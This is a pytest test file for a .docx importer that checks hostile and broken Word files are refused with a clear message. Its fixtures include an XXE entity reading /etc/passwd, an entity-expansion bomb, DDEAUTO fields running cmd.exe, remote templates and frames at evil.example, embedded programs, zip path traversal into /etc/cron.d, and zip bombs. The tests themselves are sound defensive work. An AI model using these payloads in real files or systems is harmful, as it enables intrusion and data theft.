"""Word files that attack, break or are something else: one clear message, nothing read, run or fetched."""

from __future__ import annotations

import io
import struct
import tracemalloc
import zipfile
from contextlib import suppress

import pytest

from briefpress.errors import BriefError
from briefpress.importers.blocks import Options
from briefpress.importers.kinds import kind_of
from briefpress.importers.recover import recover
from briefpress.importers.word import read
from make_docx import SPACES, Docx, coded, packed, para, run

PLAIN = Docx(para("Words."))


def refused(data: bytes, code: str = "BP901") -> str:
    """The messages with which the file is refused; it must be refused."""
    assert kind_of(data, "a.docx") == "word"
    with pytest.raises(BriefError) as stopped:
        read(data, Options())
    assert {one.code for one in stopped.value.findings} == {code}
    assert stopped.value.exit_code == 1
    assert all(one.hint for one in stopped.value.findings), "each message says what to do"
    return "; ".join(one.message for one in stopped.value.findings)


def with_parts(**parts: bytes) -> bytes:
    return Docx(
        PLAIN.body, parts={name.replace("__", "/"): data for name, data in parts.items()}
    ).bytes()


def rel(kind: str, target: str, external: bool) -> bytes:
    return Docx(PLAIN.body, relations=[("r1", kind, target, external)]).bytes()


def test_the_plain_file_is_read():
    assert read(PLAIN.bytes(), Options()).blocks


HOSTILE = {
    "DOCTYPE": (
        Docx(PLAIN.body, parts={
            "word/styles.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
        }), "document type"),
    "entity bomb": (
        Docx(PLAIN.body, parts={"word/document.xml": (
            '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            f"<w:document {SPACES}><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body>"
            "</w:document>").encode()}), "document type"),
    "macros by part": (Docx(PLAIN.body, parts={"word/vbaProject.bin": b"x"}), "macros"),
    "macros by type": (
        Docx(PLAIN.body, main="application/vnd.ms-word.document.macroEnabled.main+xml"), "macros"),
    "ActiveX": (Docx(PLAIN.body, parts={"word/activeX/activeX1.xml": b"<x/>"}), "ActiveX"),
    "a program": (Docx(PLAIN.body, parts={"word/embeddings/a.exe": b"MZ"}), "program"),
    "alternative format": (
        Docx(PLAIN.body + '<w:altChunk r:id="r1"/>',
             relations=[("r1", "aFChunk", "afchunk1.htm", False)],
             parts={"word/afchunk1.htm": b"<html/>"}), "second document"),
    "sub-document": (Docx(PLAIN.body, relations=[("r1", "subDocument", "x.docx", True)]),
                     "second document"),
    "object": (
        Docx(para('<w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" r:id="r1"/></w:object>'
                  "</w:r>"),
             relations=[("r1", "oleObject", "embeddings/o.bin", False)],
             parts={"word/embeddings/o.bin": b"x"}), "embedded object"),
    "template from outside": (
        Docx(PLAIN.body, relations=[("r1", "attachedTemplate", "https://evil.example/t.dotm", True)]),
        "template is fetched"),
    "frame from outside": (
        Docx(PLAIN.body, relations=[("r1", "frame", "https://evil.example/", True)]), "fetched"),
    "DDE": (Docx(para(coded(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" ', run("x")))), "DDEAUTO"),
    "DDE in a simple field": (
        Docx(para('<w:fldSimple w:instr=" dde excel x "><w:r><w:t>x</w:t></w:r></w:fldSimple>')),
        "DDE"),
    "DDE cut into runs, without a result": (
        Docx(para('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> D</w:instrText>'
                  "</w:r><w:r><w:instrText>DE x</w:instrText></w:r><w:r><w:fldChar "
                  'w:fldCharType="end"/></w:r>')), "DDE"),
    "not XML": (Docx(PLAIN.body, parts={"word/styles.xml": b"<w:styles"}), "not XML"),
    "no body": (
        Docx("", parts={"word/document.xml": f"<w:document {SPACES}/>".encode()}), "no body"),
    "a workbook": (
        Docx(PLAIN.body, main="application/vnd.openxmlformats-officedocument.spreadsheetml."
             "sheet.main+xml"), "says that it is"),
}  # fmt: skip


@pytest.mark.parametrize(("docx", "said"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_files_are_refused(docx, said):
    assert said in refused(docx.bytes())


# --- the archive ---------------------------------------------------------------------------------


def rewritten(change) -> bytes:
    """The plain file with its parts put in again by `change(archive, parts)`."""
    with zipfile.ZipFile(io.BytesIO(PLAIN.bytes())) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        change(archive)
    return out.getvalue()


@pytest.mark.parametrize("name", ["../../etc/cron.d/x", "/etc/x", "C:/x", "word\\..\\..\\x"])
def test_parts_that_point_out_of_the_file_are_refused(name):
    assert "points out" in refused(rewritten(lambda archive: archive.writestr(name, b"x")))


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("name", ["word/document.xml", "WORD/Document.XML"])
def test_parts_that_stand_twice_are_refused(name):
    assert "twice" in refused(rewritten(lambda archive: archive.writestr(name, b"<x/>")))


def test_too_many_parts_are_refused():
    def many(archive):
        for number in range(1001):
            archive.writestr(f"word/media/{number}.png", b"")

    assert "limit" in refused(rewritten(many))


def test_a_bomb_is_refused_before_it_fills_the_memory():
    data = rewritten(lambda archive: archive.writestr("word/media/a.png", bytes(150_000_000)))
    assert len(data) < 200_000
    tracemalloc.start()
    try:
        assert "limit" in refused(data)
        assert tracemalloc.get_traced_memory()[1] < 20_000_000
    finally:
        tracemalloc.stop()


def test_a_picture_of_one_white_plane_is_no_bomb():
    assert read(
        rewritten(lambda archive: archive.writestr("word/media/a.emf", bytes(9_000_000))), Options()
    ).blocks
    too_large = rewritten(lambda archive: archive.writestr("word/media/a.emf", bytes(60_000_000)))
    assert "limit" in refused(too_large)


def test_a_bomb_that_lies_about_its_size_is_refused():
    data = bytearray(
        rewritten(lambda archive: archive.writestr("word/media/a.png", bytes(5_000_000)))
    )
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 10)
    with pytest.raises(BriefError):
        read(bytes(data), Options())


def test_an_encrypted_part_is_refused():
    data = bytearray(PLAIN.bytes())
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    assert "encrypted" in refused(bytes(data), "BP903")


def test_every_cut_of_a_file_is_refused_and_never_crashes():
    data = PLAIN.bytes()
    for size in range(1, len(data) - 1, 97):
        with pytest.raises(BriefError):
            read(data[:size], Options())


def test_flipped_bytes_never_crash():
    data = PLAIN.bytes()
    for at in range(0, len(data), 13):
        spoilt = bytearray(data)
        spoilt[at] ^= 0xFF
        with suppress(BriefError):
            read(bytes(spoilt), Options())


OTHERS = {
    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "BP901", ".docx"),
    "encrypted": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
                  + "EncryptedPackage".encode("utf-16-le"), "BP903", "password"),
    "RTF": (b"{\\rtf1 x}", "BP901", ".docx"),
    "OpenDocument": (packed({"mimetype": b"application/vnd.oasis.opendocument.text",
                             "content.xml": b"<x/>"}), "BP901", ".docx"),
    "an archive": (packed({"a.txt": b"x"}), "BP901", ".docx"),
    "nothing": (b"", "BP901", ""),
}  # fmt: skip


@pytest.mark.parametrize(("data", "code", "way_out"), OTHERS.values(), ids=OTHERS)
def test_other_files_get_a_clear_message(data, code, way_out):
    """On the way that a user takes, and where a caller goes straight to the reader."""
    for step in (lambda: recover(data, "a.doc", Options()), lambda: read(data, Options())):
        with pytest.raises(BriefError) as stopped:
            step()
        (finding,) = stopped.value.findings
        assert finding.code == code
        assert way_out in (finding.hint or "")


@pytest.mark.parametrize("data", [
    b"MIME-Version: 1.0\nContent-Type: multipart/related",
    b"\xef\xbb\xbf<html><body><p>Words.</p></body></html>",
    b'<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n<w:wordDocument>',
    b'<?xml version="1.0"?>\n<office:document xmlns:office="x">',
    packed({"Index/Document.iwa": b"x"}),
    packed({"META-INF/container.xml": b"x", "a.xhtml": b"x"}),
    packed({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b"<x/>"}),
])  # fmt: skip
def test_texts_of_other_programs_are_refused(data):
    with pytest.raises(BriefError) as stopped:
        kind_of(data, "a.doc")
    (finding,) = stopped.value.findings
    assert ".docx" in (finding.hint or "")
    assert "packed" not in finding.message
    assert kind_of(b"The <html> element\n\nFrom: Sana Khan", "a.txt") == "text"


def test_deep_nesting_does_not_crash():
    body = PLAIN.body
    for _ in range(400):
        body = f"<w:sdt><w:sdtContent>{body}</w:sdtContent></w:sdt>"
    with suppress(BriefError):
        assert read(Docx(body).bytes(), Options()).blocks
